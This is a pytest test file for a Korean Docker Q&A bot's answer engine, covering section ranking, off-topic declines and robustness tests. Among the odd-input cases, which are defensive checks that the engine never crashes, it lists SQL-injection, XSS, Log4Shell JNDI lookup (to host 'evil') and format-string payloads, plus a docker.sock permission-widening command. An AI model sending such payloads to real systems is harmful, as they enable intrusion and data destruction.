"""The answer engine on the seed note: questions -> sections, declines, and hostile input."""

from __future__ import annotations

import json
import random
from dataclasses import replace
from pathlib import Path

import pytest

from bot.answers.engine import Tuning
from bot.answers.types import Answer
from bot.errors import QuestionError

SEED_NOTE = Path(__file__).resolve().parents[1] / "knowledge" / "docker.md"

NOTE = SEED_NOTE.read_text(encoding="utf-8")
NOTE_LINES = NOTE.split("\n")


def best(engine, question: str) -> tuple[str, int]:
    ans = engine.ask(question)
    assert ans.answered, (question, ans.message, ans.suggestions)
    return ans.best.section.title, ans.best.section.line


# -- in-scope questions --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("question", "lines"),
    [
        ("도커와 EC2 차이", {82, 83}),  # "❗ 도커와 AWS EC2의 차이" or its only sub-section
        ("도커랑ec2차이", {82, 83}),
        ("docker vs aws ec2", {82, 83}),
        ("우분투에 도커 설치", {3}),
        ("우부투에 도커 설치", {3}),  # typo
        ("how to install docker on ubuntu", {3}),
        ("CentOS에 docker 설치하는 법", {3}),
        ("도커 단점은?", {40}),
        ("도커의 안 좋은 점", {40}),
        ("docker vs vm", {73, 74, 78}),  # "❗ 도커와 가상화 기술의 차이" and its sub-sections
        ("도커랑 가상머신 차이", {73, 74, 78}),
        ("서버란 무엇인가요?", {55}),
        ("AWS ECS는 어떤 서비스야?", {86}),
        ("도커 작동 원리", {89}),
    ],
)
def test_seed_questions_find_their_section(seed_engine, question: str, lines: set[int]) -> None:
    title, line = best(seed_engine, question)
    assert line in lines, (question, title, line)


def test_answer_carries_path_source_line_and_the_notes_markdown(seed_engine) -> None:
    ans = seed_engine.ask("우분투에 도커 설치", top=3)
    assert ans.answered and 1 <= len(ans.results) <= 3
    sec = ans.best.section
    assert sec.heading_path == ("🧢 Docker", "설치 방법")
    assert (sec.source, sec.line, sec.title) == ("docker.md", 3, "설치 방법")
    assert NOTE_LINES[sec.line - 1] == "## 설치 방법"
    # the full section as written: all three fenced snippets intact, up to the next level-2 heading
    assert sec.text == "\n".join(NOTE_LINES[2:29]).rstrip()
    assert sec.text.count("```bash") == 3 and sec.text.count("```") == 6
    assert "sudo apt-get install docker.io\n# sudo apt-get install docker.io -y" in sec.text


def test_results_are_best_first_distinct_and_share_a_word(seed_engine) -> None:
    for q in ("도커 장점", "도커와 EC2 차이", "도커 설치", "서버"):
        ans = seed_engine.ask(q, top=10)
        scores = [r.score for r in ans.results]
        assert scores == sorted(scores, reverse=True)
        # re-ranked scores may be negative; every result still holds a word of the question
        lexical = seed_engine.scores(q, seed_engine.question_tokens(q))
        ids = {(s.source, s.line): i for i, s in enumerate(seed_engine.index.sections)}
        assert all(lexical[ids[(r.section.source, r.section.line)]] > 0 for r in ans.results)
        keys = [(r.section.source, r.section.line) for r in ans.results]
        assert len(keys) == len(set(keys))


@pytest.mark.parametrize("top", [1, 2, 3, 10, 50])
def test_top_limits_the_results(seed_engine, top: int) -> None:
    ans = seed_engine.ask("도커 장점", top=top)
    assert ans.answered and 1 <= len(ans.results) <= min(top, len(seed_engine.index.sections))


def test_same_question_same_answer(seed_engine) -> None:
    a, b = seed_engine.ask("도커와 EC2 차이"), seed_engine.ask("도커와 EC2 차이")
    assert a == b


def test_answer_json_shape(seed_engine) -> None:
    obj = json.loads(json.dumps(seed_engine.ask("도커 설치", top=2).to_json(), ensure_ascii=False))
    assert obj["question"] == "도커 설치" and obj["answered"] is True
    assert 1 <= len(obj["results"]) <= 2
    for r in obj["results"]:
        assert set(r) == {"title", "heading_path", "source", "line", "text", "passage", "score"}
        assert isinstance(r["title"], str) and r["title"] == r["heading_path"][-1]
        assert all(isinstance(h, str) for h in r["heading_path"])
        assert isinstance(r["source"], str) and isinstance(r["line"], int) and r["line"] >= 1
        assert isinstance(r["text"], str) and isinstance(r["score"], float)
        assert isinstance(r["passage"], str) and r["passage"]


# -- declines -------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "question",
    [
        "안녕",
        "안녕하세요",
        "hi",
        "thanks!",
        "김치찌개 레시피",
        "김치찌개 레시피 알려줘",
        "오늘 날씨 어때?",
        "점심 뭐 먹지",
    ],
)
def test_off_topic_is_declined_with_suggestions(seed_engine, question: str) -> None:
    ans = seed_engine.ask(question)
    assert not ans.answered and ans.results == ()
    assert ans.message.strip()
    assert ans.suggestions
    titles = {s.title for s in seed_engine.index.sections}
    assert set(ans.suggestions) <= titles


def test_declined_json_has_message_and_suggestions(seed_engine) -> None:
    obj = seed_engine.ask("김치찌개 레시피").to_json()
    assert obj["answered"] is False and obj["results"] == []
    assert obj["message"] and obj["suggestions"]


# -- bad input ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("question", ["", " ", "   \n\t  ", "\u3000", "\r\n"])
def test_empty_question_is_a_question_error(seed_engine, question: str) -> None:
    with pytest.raises(QuestionError) as err:
        seed_engine.ask(question)
    assert "\n" not in str(err.value) and str(err.value)


def _long_questions() -> dict[str, str]:
    rng = random.Random(10_000)
    return {
        "repeated": ("도커 설치 방법 " * 2000)[:10_000],
        "random-hangul": "".join(chr(rng.randint(0xAC00, 0xD7A3)) for _ in range(10_000)),
        "one-ascii-run": "a" * 10_000,
        "one-hangul-run": "가" * 10_000,
        "jamo": "ㅋ" * 10_000,
        "mixed": ("docker.sock도커 EC2차이 " * 700)[:10_000],
    }


@pytest.fixture(scope="module")
def big_engine(build_engine):
    """The seed engine with max_question_chars at its maximum (the config allows 100,000)."""
    return build_engine(SEED_NOTE.parent, Tuning(max_question_chars=100_000))


@pytest.mark.parametrize("name", list(_long_questions()))
@pytest.mark.parametrize("engine_name", ["seed_engine", "big_engine"])
def test_ten_thousand_characters_answered_or_declined(request, engine_name: str, name: str) -> None:
    question = _long_questions()[name]
    assert len(question) == 10_000
    ans = request.getfixturevalue(engine_name).ask(question)
    assert isinstance(ans, Answer) and ans.question == question
    assert ans.answered == bool(ans.results)
    json.dumps(ans.to_json(), ensure_ascii=False)


@pytest.mark.parametrize(
    "question",
    [
        "🐳🔥😀",
        "🐳",
        "은는이가",
        "을를에서의",
        "ㅋㅋㅋㅋ",
        "\u200b",
        "?!?!",
        "....",
        "\x00\x01\x02",
    ],
)
def test_nothing_to_search_is_declined(seed_engine, question: str) -> None:
    ans = seed_engine.ask(question)
    assert not ans.answered and ans.results == () and ans.message and ans.suggestions


@pytest.mark.parametrize(
    "question",
    [
        "```python\nprint('hi')\n```",
        "sudo apt-get install docker.io",
        "sudo chmod 666 /var/run/docker.sock",
        "def f(x): return x ** 2",
        "SELECT * FROM users; DROP TABLE notes;--",
        "<script>alert(1)</script>",
        "{{7*7}} ${jndi:ldap://evil/a} %s %n",
        "\x00\x07\x1b[2J도커 설치\x7f",
        "도커\r\n설치\r\n방법",
        "\ud800도커 설치",  # a lone surrogate
        "\u202e도커 설치",  # right-to-left override
        "도커" + "\u0301" * 50,  # combining marks
        "@everyone 도커 설치",
        "@here <@123456789> <@&42> <#7> 도커 설치",
        "도커 " * 300,
        "ａｂｃ ＥＣ２ 도커",
    ],
)
def test_odd_questions_never_raise(seed_engine, question: str) -> None:
    ans = seed_engine.ask(question)
    assert ans.answered == bool(ans.results)
    assert ans.answered or (ans.message and ans.suggestions)
    json.dumps(ans.to_json(), ensure_ascii=False)


def test_mentions_in_a_question_are_harmless(seed_engine) -> None:
    for q in ("@everyone 도커 설치", "@here 도커 설치"):
        ans = seed_engine.ask(q)
        shown = json.dumps({k: v for k, v in ans.to_json().items() if k != "question"}, ensure_ascii=False)
        assert "@everyone" not in shown and "@here" not in shown


def test_a_mention_does_not_change_the_answer(seed_engine) -> None:
    plain = seed_engine.ask("도커 설치")
    for q in ("@everyone 도커 설치", "@here 도커 설치", "<@123456789> 도커 설치"):
        assert seed_engine.ask(q).results == plain.results, q


# -- small knowledge folders ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    "note",
    [
        "# 쿠버네티스 파드\n파드는 쿠버네티스에서 배포하는 가장 작은 단위다.\n",
        "# 쿠버네티스\n## 파드\n파드는 가장 작은 배포 단위다.\n## 서비스\n서비스는 파드에 주소를 준다.\n",
    ],
    ids=["one-section", "one-title-two-sections"],
)
def test_a_one_note_folder_answers_its_own_topic(
    tmp_path: Path, build_engine, note: str, make_knowledge
) -> None:
    engine = build_engine(make_knowledge(tmp_path / "k", {"k8s.md": note}))
    ans = engine.ask("쿠버네티스 파드가 뭐야?")
    assert ans.answered and ans.best.section.source == "k8s.md"


def test_a_three_note_folder_answers(tmp_path: Path, build_engine, make_knowledge) -> None:
    notes = {
        "k8s.md": "# 쿠버네티스 파드\n파드는 쿠버네티스에서 배포하는 가장 작은 단위다.\n",
        "redis.md": "# 레디스 캐시\n레디스는 메모리에 데이터를 두는 저장소다.\n",
        "gc.md": "# 자바 가비지 컬렉션\n쓰지 않는 객체의 메모리를 회수한다.\n",
    }
    engine = build_engine(make_knowledge(tmp_path / "k", notes))
    assert best(engine, "쿠버네티스 파드가 뭐야?") == ("쿠버네티스 파드", 1)
    assert best(engine, "redis 캐시") == ("레디스 캐시", 1)
    assert not engine.ask("김치찌개 레시피").answered


def test_what_is_x_naming_a_word_the_notes_never_use_is_declined(
    tmp_path: Path, build_engine, make_knowledge
) -> None:
    """The notes explain 프로세스 but never say 좀비: they do not define a 좀비 프로세스. An everyday word
    the notes lack ("what is 프로세스 in one sentence?") does not decline, nor does a longer question."""
    notes = {
        "os.md": "# 프로세스\n프로세스는 실행 중인 프로그램이다.\n\n## 스레드\n프로세스 안의 흐름이다.\n",
        "net.md": "# 네트워크\n패킷을 주고받는다.\n",
    }
    notes.update({f"t{k}.md": f"# 크로노텍{k}\n크로노텍{k} 파라메트릭 구성.\n" for k in range(30)})
    engine = build_engine(make_knowledge(tmp_path / "k", notes))
    assert engine.ask("프로세스가 뭐야?").answered
    assert not engine.ask("좀비 프로세스가 뭐야?").answered
    for question in ("what is 프로세스 in one sentence?", "좀비 프로세스는 어떻게 만들어지고 왜 남는 거야?"):
        assert not engine._names_unknown(question, engine.question_tokens(question)), question
    engine.tuning = replace(engine.tuning, whatis_unknown=None)
    assert engine.ask("좀비 프로세스가 뭐야?").answered  # the check is what declined it


def test_links_in_a_question_are_where_it_was_seen_not_its_topic(seed_engine) -> None:
    """A pasted link's words weighed as unknown topic words and declined the question (a blind test)."""
    want = seed_engine.ask("도커 장점이 뭐야?").results[0].section
    for q in (
        "https://stackoverflow.com/questions/16047306 도커 장점이 뭐야?",
        "도커 장점이 뭐야? <https://i.imgur.com/abc.png>",
        "[여기 글](https://x.y/z?q=1) 보고 궁금한데 도커 장점이 뭐야?",
    ):
        ans = seed_engine.ask(q)
        assert ans.answered and ans.results[0].section == want, q
    with pytest.raises(QuestionError):
        seed_engine.ask("https://example.com/only-a-link")


def test_a_one_digit_number_alone_names_no_topic(tmp_path: Path, build_engine, make_knowledge) -> None:
    """On a small folder every word the notes use counts as theirs: "0" matched useState(0), "WHERE 1=1"
    "TIL 3월 1일" (a blind stress test). Longer numbers still name topics (HTTP status codes)."""
    notes = {
        "til.md": "# TIL 3월 1일\n\n## 오늘 배운 것\n\n자바스크립트 클로저를 공부했다.\n",
        "react.md": "# 리액트 훅\n\n## useState\n\n상태 훅이다. `useState(0)`\n",
        "http.md": "# HTTP\n\n## 상태 코드\n\n- 401 Unauthorized\n- 403 Forbidden\n- 404 Not Found\n",
    }
    engine = build_engine(make_knowledge(tmp_path / "k", notes))
    for question in ("0", "-1", "SELECT * FROM sections WHERE 1=1", "³", "%s %d {0} {}"):
        assert not engine.ask(question).answered, question
    for question in ("404", "401이랑 403 차이", "클로저 공부"):
        assert engine.ask(question).answered, question
    engine.tuning = replace(engine.tuning, digits_vouch=True)
    assert engine.ask("0").answered  # the check is what declined it


# -- what front ends show ------------------------------------------------------------------------------
def test_examples_are_section_titles(seed_engine) -> None:
    ex = seed_engine.examples(5)
    assert len(ex) == 5 and len(set(ex)) == 5
    assert set(ex) <= {s.title for s in seed_engine.index.sections}


def test_build_report(seed_engine) -> None:
    r = seed_engine.report
    assert (r.files, r.sections, r.warnings) == (1, 18, ())


def test_what_is_x_prefers_the_section_titled_x(tmp_path: Path, build_engine, make_knowledge) -> None:
    """ "트라이 자료구조가 뭐야?" is answered by "트라이(Trie)", not by the overview that repeats both
    words; a question with an aspect ("트라이 장점이 뭐야?") is ranked as before."""
    from bot.evaluation.run import tuned

    notes = {
        "overview.md": "# 자료구조\n\n트라이 자료구조, 힙 자료구조, 스택 자료구조를 다룬다. "
        "트라이 자료구조는 "
        "문자열 자료구조이고 트라이 자료구조 구현은 아래에.\n",
        "trie.md": "# 트라이(Trie)\n\n문자열을 저장하고 효율적으로 탐색하기 위한 트리 형태의 구조.\n\n"
        "## 트라이 장점\n\n검색이 빠르다.\n",
        "heap.md": "# 힙\n\n완전 이진 트리 기반의 자료구조.\n",
        "stack.md": "# 스택\n\n후입선출 자료구조.\n",
        "queue.md": "# 큐\n\n선입선출 자료구조.\n",
        # A README's list of links titled like the topic: it points to the topic, it is not about it.
        "README.md": "# 목차\n\n## 트라이(Trie)\n\n- [트라이 자료구조 정리](trie.md)\n"
        "- [트라이 자료구조 구현](trie.md)\n",
    }
    engine = build_engine(make_knowledge(tmp_path, notes))
    with tuned(engine, whatis_title=False):
        assert engine.ask("트라이 자료구조가 뭐야?").best.section.title == "자료구조"  # the overview wins
    best = engine.ask("트라이 자료구조가 뭐야?").best.section
    assert (best.source, best.title) == ("trie.md", "트라이(Trie)")
    assert engine.ask("트라이 장점이 뭐야?").best.section.title == "트라이 장점"


def test_what_is_x_prefers_the_note_titled_x_to_a_part_titled_x(
    tmp_path: Path, build_engine, make_knowledge
) -> None:
    """When a note is about X and one of its comparisons has a part titled X too, "X가 뭐야?" is the
    note (its outermost section), not the comparison's side."""
    notes = {
        "kafka.md": "# 카프카\n\n분산 메시지 브로커.\n\n## 래빗엠큐와 비교\n\n### 카프카\n\n"
        "카프카는 로그를 쌓는다. 카프카 파티션.\n\n### 래빗엠큐\n\n큐에 메시지를 넣는다.\n",
    }
    for k, topic in enumerate(("정렬", "해시", "트리", "그래프", "스택", "힙", "트라이", "큐")):
        notes[f"other{k}.md"] = f"# {topic}\n\n{topic} 설명.\n"
    engine = build_engine(make_knowledge(tmp_path, notes))
    ranked = engine.rank("카프카", 3)[1]
    assert engine.index.sections[ranked[0]].level == 3  # the part ranks first on its words
    best = engine.ask("카프카가 뭐야?").best.section
    assert (best.title, best.level) == ("카프카", 1)


def test_a_derived_verb_stem_is_as_everyday_as_its_base(seed_engine) -> None:
    """wordfreq's Korean list lacks some passive/causative stems Kiwi gives ("쓰이" of 쓰여): counted as
    specific unknown words they outweighed the topic, and "Docker란 무엇이고 주로 어디에 쓰여?" was
    declined on the seed. They weigh as their base does; a rare word keeps its full weight."""
    from bot.answers.generality import topic_weight

    assert topic_weight("쓰이") == topic_weight("쓰") < 0.5
    assert topic_weight("리액트") == 1.0 and topic_weight("고양이") < 1.0
    answer = seed_engine.ask("Docker란 무엇이고 주로 어디에 쓰여?")
    assert answer.answered and answer.best.section.source == "docker.md", answer
